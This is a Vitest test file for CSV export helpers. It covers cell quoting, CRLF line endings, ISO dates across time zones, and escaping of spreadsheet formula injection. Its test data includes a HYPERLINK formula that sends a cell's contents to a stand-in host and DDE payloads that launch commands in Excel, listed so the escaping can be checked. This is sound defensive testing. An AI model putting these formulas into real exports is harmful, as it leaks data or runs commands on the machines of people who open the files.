import { describe, expect, it } from 'vitest';
import { CSV_EOL, csvCell, csvDate, csvLine, isInertPhoneNumber } from '../../../src/shared/rules/csv';

/** The cell's text as a CSV reader gives it back (RFC 4180 quotes removed). */
const unquoted = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell);

describe('csvCell', () => {
  it('leaves plain text and numbers as they are; empty for null', () => {
    expect(csvCell('Asha Rao')).toBe('Asha Rao');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('')).toBe('');
  });

  it('quotes commas, quotes and line breaks, doubling the quotes', () => {
    expect(csvCell('Rao, Asha')).toBe('"Rao, Asha"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('cr\rhere')).toBe('"cr\rhere"');
  });

  it.each(['=SUM(A1)', '+91 98', '-2+3', '@cmd', '\t=1', '\r=1'])('escapes the formula start of %j', (value) => {
    const cell = csvCell(value);
    expect(cell.replace(/^"/, '').startsWith("'")).toBe(true);
  });

  // Excel runs these (or computes them: a value lost); each must reach the spreadsheet as text.
  it.each([
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '=HYPERLINK("http://x.test/?leak="&A1,"Open")',
    '\t=1+1',
    '\r=1+1',
    "+1+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    '+91 98765 00001+A1',
    '+91 (98765) 00001&A1',
    '+1 (555) (123) 4567',
    '+91 98765:00001',
    '+1-800-555-0199',
    '+919876500001',
    '+44.2079460958',
    '+1 -2 -3 -4 -5',
    '+12 34',
    '+91\t98765 00001',
    '-91 98765 00001',
  ])('prefixes the injection or computable payload %j with an apostrophe', (value) => {
    expect(unquoted(csvCell(value))).toBe(`'${value}`);
  });

  // Written as they are: no letter, quote, colon, comma, bar or bang, and numbers side by side that
  // no formula can join, so a spreadsheet shows them as the phone numbers they are.
  it.each([
    '+91 98744 96459',
    '+91 98765-00001',
    '+1 (555) 123-4567',
    '+44 20 7946 0958',
    '+(555) 123-4567',
    '+1 555.123.4567',
    '+49 30 901820',
  ])('writes the phone number %j as it is', (value) => {
    expect(csvCell(value)).toBe(value);
    expect(isInertPhoneNumber(value)).toBe(true);
  });

  it('escapes and quotes together', () => {
    expect(csvCell('=HYPERLINK("x","y")')).toBe('"\'=HYPERLINK(""x"",""y"")"');
  });

  it('does not escape a formula sign that is not first', () => {
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('user@example.com')).toBe('user@example.com');
  });
});

describe('csvLine', () => {
  it('joins cells with commas and ends with CRLF', () => {
    expect(csvLine(['a', 1, null, 'b,c'])).toBe(`a,1,,"b,c"${CSV_EOL}`);
    expect(CSV_EOL).toBe('\r\n');
  });
});

describe('csvDate', () => {
  it('writes every date as ISO 8601: a calendar day as it is, an instant as its day in the time zone', () => {
    expect(csvDate('2026-06-10')).toBe('2026-06-10');
    expect(csvDate(null)).toBeNull();
    // 20:00 UTC on 9 June is already 10 June in India and still 9 June in Chicago.
    const instant = new Date('2026-06-09T20:00:00Z');
    expect(csvDate(instant, 'Asia/Kolkata')).toBe('2026-06-10');
    expect(csvDate(instant, 'America/Chicago')).toBe('2026-06-09');
  });
});
